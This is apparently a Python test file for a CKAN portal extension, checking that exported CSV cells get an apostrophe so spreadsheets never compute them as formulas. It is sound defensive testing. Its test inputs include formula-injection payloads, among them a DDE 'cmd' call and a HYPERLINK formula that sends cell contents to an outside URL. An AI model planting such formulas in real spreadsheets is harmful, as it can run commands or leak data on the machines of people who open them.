"""Cells of CSV files that the portal writes: never a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ckanext.stuttgart.cells import csv_bytes, plain_cell, safe_cell

# What a spreadsheet program may compute, by its first sign.
STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        '=HYPERLINK("https://a.example/?"&A1;"Klick")',
        "=cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\uff1d1+1",
        "\tText",
        "+49 30 123456",
        "- Punkt eins",
    ],
)
def test_a_cell_that_could_be_computed_begins_with_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "Bäume", "a=b", "1", "12-34", "'Titel'", "https://a.example/?a=-1", "(=1)", " Text"]
)
def test_any_other_cell_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


@given(st.text())
def test_no_text_can_be_computed_after_it_was_made_safe(text: str) -> None:
    safe = safe_cell(text)
    assert safe.endswith(text)
    assert safe_cell(safe) == safe
    assert not safe.lstrip().startswith(tuple(STARTS))
    assert not safe.startswith(("\t", "\r", "\n"))


@given(st.text().filter(lambda text: not text.startswith("'")))
def test_reading_takes_the_apostrophe_away_again(text: str) -> None:
    assert plain_cell(safe_cell(text)) in (text, safe_cell(text))
    if text.lstrip(" ")[:1] in tuple(STARTS):
        assert plain_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    ("cell", "meant"),
    [
        ("'0711 123", "0711 123"),
        ("'08111000", "08111000"),
        ("'=1+1", "=1+1"),
        ("'+49 30 1", "+49 30 1"),
        ("'s Lädle", "'s Lädle"),
        ("'68er-Bewegung", "'68er-Bewegung"),
        ("'", "'"),
    ],
)
def test_an_apostrophe_before_a_number_or_formula_marks_text(cell: str, meant: str) -> None:
    assert plain_cell(cell) == meant


def test_a_csv_opens_in_german_excel_and_holds_no_formula_under_any_separator() -> None:
    body = csv_bytes([["Titel", "Zahl"], ["=1;=2,=3\t=4\n=5", -5], [None, 1.5], ['"=1"', 2]])
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [["Titel", "Zahl"], ["'=1;=2,=3\t=4\n=5", "-5"], ["", "1.5"], ['"=1"', "2"]]
    for separator in ",\t|":
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=separator):
            assert not any(cell.startswith(tuple(STARTS)) for cell in row)


def test_half_a_surrogate_does_not_stop_an_export() -> None:
    assert csv_bytes([["a\ud800"]]).decode("utf-8-sig") == '"a?"\r\n'
